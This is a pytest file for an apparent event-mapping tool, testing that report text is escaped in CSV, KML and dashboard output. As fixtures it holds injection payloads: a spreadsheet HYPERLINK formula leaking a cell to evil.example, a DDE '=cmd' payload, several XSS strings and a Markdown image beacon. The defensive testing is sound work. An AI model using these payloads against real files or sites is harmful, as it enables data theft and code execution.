"""Promise: text from a report is shown as text in every output, never run.

- CSV (``eventmap events``, ``eventmap export``, the dashboard's download, ``places export``): a cell
  that a spreadsheet would read as a formula (``= + - @``, tab, CR) starts with ``'`` (OWASP).
- KML: descriptions are escaped HTML in CDATA, balloons show only them: a report's ``<img onerror>``
  or ``javascript:`` link is text in Google Earth.
- Dashboard: no report string reaches Streamlit Markdown unescaped (an outlet typed as
  ``![](http://host/beacon.png)`` is shown, never fetched).
- HTML (map, export) and SQL are covered by tests/test_views_escape.py and tests/test_store.py.
"""

from __future__ import annotations

import csv
import io
import json
import re
import xml.etree.ElementTree as ET
import zipfile
from html.parser import HTMLParser

import pytest

from eventmap.store import EventFilter, open_store
from eventmap.ui import downloads

FORMULA_SOURCE = '=HYPERLINK("http://evil.example/?leak="&A2,"Reuters")'
AT_SENTENCE = ("@Reuters: Syrian government forces shelled the town of Tafas in Deraa province on Tuesday, "
               "rebels and residents said.")
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def store_with_formulas(tmp_path, cli):
    """A store filled by ``eventmap ingest`` from a JSONL whose outlet and sentence are spreadsheet formulas."""
    f = tmp_path / "wire.jsonl"
    f.write_text(json.dumps({"text": AT_SENTENCE, "published": "2018-07-18", "source": FORMULA_SOURCE,
                             "url": "https://www.reuters.com/article/mideast-crisis-syria-south"}) + "\n",
                 encoding="utf-8")
    db = str(tmp_path / "s.gpkg")
    code, out, err = cli("ingest", f, "--db", db)
    assert code == 0 and "new: 1" in out, out + err
    return db


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))


def assert_no_formula(rows: list[list[str]], *payloads: str) -> None:
    """No cell starts a formula, and each payload is there as text behind a quote."""
    cells = [c for r in rows for c in r]
    assert cells, "empty CSV"
    bad = [c for c in cells if c.startswith(FORMULA_START)]
    assert not bad, bad
    for p in payloads:
        assert any(c.startswith("'" + p) for c in cells), p


def test_csv_of_events_and_export_and_download_neutralise_formulas(store_with_formulas, tmp_path, cli):
    db = store_with_formulas
    code, out, _ = cli("events", "--format", "csv", "--db", db)
    assert code == 0
    rows = _cells(out)
    header = rows[0]
    assert {"source", "sources", "notes"} <= set(header)
    assert_no_formula(rows, FORMULA_SOURCE, "@Reuters: Syrian government forces")
    code, _, err = cli("export", "--format", "csv", "-o", tmp_path / "brief.csv", "--db", db)
    assert code == 0, err
    assert_no_formula(_cells((tmp_path / "brief.csv").read_text(encoding="utf-8-sig")), FORMULA_SOURCE,
                      "@Reuters: Syrian government forces")
    with open_store(db) as s:
        frame = s.query(EventFilter())
    data, name, _ = downloads.download(frame, "csv")             # the dashboard's download button
    if name.endswith(".zip"):                                   # the CSV zipped with its .meta.json
        with zipfile.ZipFile(io.BytesIO(data)) as z:
            data = z.read(next(n for n in z.namelist() if n.endswith(".csv")))
    assert_no_formula(_cells(data.decode("utf-8-sig")), FORMULA_SOURCE, "@Reuters: Syrian government forces")
    assert frame.iloc[0]["source"] == FORMULA_SOURCE             # the store keeps the text as it came


def test_places_export_neutralises_an_author_and_import_gives_it_back(tmp_path, cli):
    author = "=cmd|' /C calc'!A0"
    db, colleague = tmp_path / "s.gpkg", tmp_path / "colleague.gpkg"
    code, _, err = cli("places", "pin", "المهير", "--lat", "32.918", "--lon", "35.916", "--author", author,
                       "--reason", "-from the field", "--db", db)
    assert code == 0, err
    out = tmp_path / "share.csv"
    code, _, err = cli("places", "export", "-o", out, "--db", db)
    assert code == 0, err
    assert_no_formula(_cells(out.read_text(encoding="utf-8")), author, "-from the field")
    code, _, err = cli("places", "import", out, "--db", colleague)    # a colleague imports it: the text comes back
    assert code == 0, err
    from eventmap.store.analyst import place_rows

    with open_store(str(colleague)) as s:
        (row,) = place_rows(s)
    assert row["author"] == author and row["note"] == "-from the field"


class _Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict]] = []
        self.text: list[str] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data):
        self.text.append(data)


def test_kml_descriptions_carry_no_report_markup(tmp_path):
    from eventmap.exports import ExportMeta, export
    from eventmap.frame import events_frame
    from eventmap.store.testing import make_event

    text = ('درعا - سانا: <img src=x onerror="alert(1)"> وشن الطيران الحربي غارات على البكار '
            '<a href="javascript:alert(2)">التفاصيل</a> صباح اليوم.')
    ev = make_event(text, "2018-07-25", "البكار", "غارات على", "bakkar", source='<b onmouseover="alert(3)">SANA</b>',
                    url="javascript:alert(4)")
    title = '<script>alert(5)</script> Daraa brief'
    p = export(events_frame([ev]), "kml", tmp_path / "brief.kml", ExportMeta(title=title))
    root = ET.fromstring(p.read_bytes())
    ns = {"k": "http://www.opengis.net/kml/2.2"}
    descs = [d.text or "" for d in root.iter("{http://www.opengis.net/kml/2.2}description")]
    assert len(descs) == 2                                      # the document's and the placemark's
    for d in descs:
        parsed = _Tags()
        parsed.feed(d)
        assert {t for t, _ in parsed.tags} <= {"br", "a"}, parsed.tags
        for _, attrs in parsed.tags:
            assert not any(k.startswith("on") for k in attrs)
            assert all(v.startswith(("http://", "https://")) for k, v in attrs.items() if k == "href")
    shown = "".join(_parse_text(descs[1]))
    assert '<img src=x onerror="alert(1)">' in shown and "البكار" in shown   # the report's text, as text
    assert "alert(5)" in "".join(_parse_text(descs[0]))
    for style in root.findall(".//k:Style", ns):                 # balloons show our description only
        assert style.find("k:BalloonStyle/k:text", ns).text.strip() == "$[description]"


def _parse_text(html: str) -> list[str]:
    p = _Tags()
    p.feed(html)
    return p.text


# ------------------------------------------------------------------ the dashboard's Markdown
BEACON = "![](http://127.0.0.1:9/beacon.png)"
_UNESCAPED_IMAGE = re.compile(r"(?<!\\)!(?<!\\)\[[^\]]*(?<!\\)\]\((?!\\)")


def _markdown_strings(at) -> list[str]:
    """Every string the app handed to Streamlit's Markdown renderer in this run."""
    out = [m.value for m in at.markdown] + [c.value for c in at.caption]
    for kind in ("error", "warning", "success", "info"):
        out += [e.value for e in getattr(at, kind)]
    out += [e.label for e in at.expander]
    return [str(s) for s in out]


@pytest.mark.slow
def test_outlet_typed_in_the_ingest_form_is_not_rendered_as_markdown(tmp_path, monkeypatch):
    from streamlit.testing.v1 import AppTest

    from eventmap.views.cli import app_path

    monkeypatch.setenv("EVENTMAP_DB", str(tmp_path / "s.gpkg"))
    monkeypatch.chdir(app_path().parent)
    at = AppTest.from_file(str(app_path()), default_timeout=240)
    at.query_params["page"] = "ingest"
    at.run()
    assert not at.exception, at.exception
    at.text_area(key="in_text").set_value(AT_SENTENCE)
    at.text_input(key="in_outlet").set_value(BEACON + " **Reuters** :red[breaking]")
    at.date_input(key="in_pub").set_value(__import__("datetime").date(2018, 7, 18))
    at.button[0].click()
    at.run()
    assert not at.exception, at.exception
    shown = _markdown_strings(at)
    report_lines = [s for s in shown if s.startswith("**Report 1**")]
    assert report_lines and "beacon" in report_lines[0]       # the outlet is shown ...
    for s in shown:                                            # ... and nothing renders it as an image
        assert not _UNESCAPED_IMAGE.search(s), s
        assert "**Reuters**" not in s and ":red[" not in s, s
